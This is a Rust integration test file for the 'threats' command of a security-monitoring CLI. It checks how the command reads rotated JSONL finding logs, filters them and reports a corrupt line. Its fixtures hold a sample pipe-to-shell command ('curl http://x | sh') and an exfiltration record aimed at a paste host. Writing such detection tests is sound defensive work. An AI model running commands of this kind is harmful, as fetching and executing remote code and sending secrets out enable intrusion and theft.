//! `threats` through the real binary, over rotated logs with a corrupt line in the middle.

use crate::util::{guardian, output, stdout};
use serde_json::{json, Value};

fn rec(ts: &str, tt: &str, sev: &str, dest: &str, snippet: &str) -> String {
    json!({"schema_version":"clawsec-traffic-finding/v1","platform":"picoclaw","direction":"inbound",
        "protocol":"https","threat_type":tt,"pattern":"pipe_to_shell","severity":sev,"source":"127.0.0.1",
        "dest":dest,"snippet":snippet,"timestamp":ts})
    .to_string()
}

fn home_with_logs() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    let logs = home.join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    for d in [&home, &logs] {
        std::fs::set_permissions(d, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    }
    std::fs::write(
        logs.join("findings.jsonl.1"),
        rec("2026-01-01T00:00:00.000Z", "EXFIL", "high", "paste.example:443", "[REDACTED:ai_api_key:0badf00d]")
            + "\n{\"cut\n",
    )
    .unwrap();
    std::fs::write(
        logs.join("findings.jsonl"),
        rec("2026-01-02T00:00:00.000Z", "INJECTION", "critical", "api.example:443", "curl http://x | sh") + "\n",
    )
    .unwrap();
    (tmp, home)
}

#[test]
fn jsonl_newest_first_with_filters() {
    let (_tmp, home) = home_with_logs();
    let o = output(guardian(&home).args(["threats", "--json"]));
    assert_eq!(o.status.code(), Some(0));
    let lines: Vec<Value> = stdout(&o).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["threat_type"], "INJECTION");
    assert!(String::from_utf8_lossy(&o.stderr).contains("skipped 1 corrupt"));
    let o = output(guardian(&home).args([
        "threats",
        "--json",
        "--type",
        "exfil",
        "--severity",
        "high",
        "--dest",
        "paste.*",
    ]));
    assert_eq!(stdout(&o).lines().count(), 1);
    let o = output(guardian(&home).args(["threats", "--json", "--since", "2026-01-01T12:00:00Z"]));
    assert_eq!(stdout(&o).lines().count(), 1);
}

#[test]
fn table_has_no_colour_off_a_terminal() {
    let (_tmp, home) = home_with_logs();
    let o = output(guardian(&home).args(["threats", "--limit", "5"]));
    assert_eq!(o.status.code(), Some(0));
    let text = stdout(&o);
    assert!(text.starts_with("TIME (UTC)"), "{text}");
    assert!(text.contains("pipe_to_shell") && text.contains("paste.example:443"));
    assert!(!text.contains('\x1b'));
}

#[test]
fn bad_filters_are_usage_errors() {
    let (_tmp, home) = home_with_logs();
    assert_eq!(output(guardian(&home).args(["threats", "--since", "soon"])).status.code(), Some(2));
    assert_eq!(output(guardian(&home).args(["threats", "--severity", "huge"])).status.code(), Some(2));
    assert_eq!(output(guardian(&home).args(["threats", "--type", "SPAM"])).status.code(), Some(2));
}

#[test]
fn no_log_yet_prints_no_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    let o = output(guardian(&home).arg("threats"));
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(stdout(&o).trim(), "no findings");
    assert!(!home.exists());
}
